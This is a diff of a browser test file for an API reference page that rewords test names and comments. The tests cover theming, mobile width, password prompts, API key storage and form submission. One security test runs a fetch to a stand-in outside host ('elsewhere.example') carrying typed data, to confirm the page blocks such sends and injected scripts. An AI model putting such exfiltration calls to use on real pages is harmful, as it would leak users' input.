@@ -3,7 +3,7 @@ import { afterEach, beforeAll, describe, expect, test } from 'vitest'
 import { chromium, openBrowser, openPage } from '../support/browser.ts'
 import { credentialsOf, type ServiceProcess, startServiceProcess } from '../support/service-process.ts'
 
-/** A browser tells and draws when it comes round to it. */
+/** A browser reports and draws with some delay. */
 const soon = { timeout: 10_000 }
 
 describe.skipIf(chromium === null)('the reference page in Chromium', () => {
@@ -48,7 +48,7 @@ describe.skipIf(chromium === null)('the reference page in Chromium', () => {
       )
     })
 
-    test('is light or dark as the reader prefers, also when that changes', async () => {
+    test('is light or dark as the reader prefers, and follows a change', async () => {
       const background = () =>
         reader.page
           .locator('.swagger-ui')
@@ -59,13 +59,13 @@ describe.skipIf(chromium === null)('the reference page in Chromium', () => {
       await expect.poll(background, soon).toBe('rgba(0, 0, 0, 0)')
     })
 
-    test('is not wider than a telephone', async () => {
+    test('is not wider than a phone', async () => {
       await reader.page.setViewportSize({ width: 360, height: 740 })
       expect(await reader.page.evaluate('document.documentElement.scrollWidth')).toBe(360)
       await reader.page.setViewportSize({ width: 1280, height: 900 })
     })
 
-    test('never has the browser ask for a password, which it would keep and send with everything', async () => {
+    test('never makes the browser ask for a password, which it would store and send with every request', async () => {
       const { page, complaints } = reader
       // While it asks, the page gets no answer.
       const refused = { status: 401, challenge: expect.stringMatching(/^Basic /) }
@@ -73,7 +73,7 @@ describe.skipIf(chromium === null)('the reference page in Chromium', () => {
       expect(complaints.splice(0)).toEqual([expect.stringContaining('status of 401')])
     })
 
-    test('asks the service where it was opened, which others know by another address, and keeps no API key', async () => {
+    test('calls the service at the address in the browser, even behind a proxy, and stores no API key', async () => {
       const { page } = reader
       const { apiKey } = await credentialsOf(service.folder)
       expect(service.issuer).not.toBe(service.url)
@@ -84,7 +84,7 @@ describe.skipIf(chromium === null)('the reference page in Chromium', () => {
       )
     })
 
-    test('sends of a form and of a filter what was typed, and no example', async () => {
+    test('sends what was typed into a form or a filter, and not the examples', async () => {
       const { page } = reader
       const { apiKey, rootApiKey } = await credentialsOf(service.folder)
       await authorize(page, apiKey)
@@ -99,7 +99,7 @@ describe.skipIf(chromium === null)('the reference page in Chromium', () => {
     })
   })
 
-  test('can send nothing elsewhere, and runs and shows nothing that was slipped into it', async () => {
+  test('cannot send anything elsewhere, and does not run or show injected content', async () => {
     const { page, complaints } = await openPage(browser, service.url)
     await page.goto(`${service.url}/docs`, { waitUntil: 'commit' })
     await page.evaluate(`fetch('https://elsewhere.example/?typed').catch(() => {})`)
@@ -125,7 +125,7 @@ describe.skipIf(chromium === null)('the reference page in Chromium', () => {
     expect(await page.evaluate('globalThis.slipped')).toBeUndefined()
   })
 
-  test('says without JavaScript where the same can be read', async () => {
+  test('without JavaScript says where the same can be read', async () => {
     const { page, complaints } = await openPage(browser, service.url, { javaScriptEnabled: false })
     await page.goto(`${service.url}/docs`)
     await page.getByRole('link', { name: 'openapi.json' }).click()
@@ -145,7 +145,7 @@ async function authorize(page: Page, apiKey: string): Promise<void> {
   await page.locator('.btn-done').first().click()
 }
 
-/** Opens the operation where it is closed, types the members of its form, sends it, closes it, and tells what went over the wire. */
+/** Opens the operation if it is closed, fills in the form, sends it, closes it, and returns what went over the wire. */
 async function tryOut(page: Page, operation: string, form: Record<string, string> = {}) {
   const block = page.locator(`#operations-${operation}`)
   if (!(await block.getAttribute('class'))?.includes('is-open')) await block.locator('.opblock-summary-control').click()
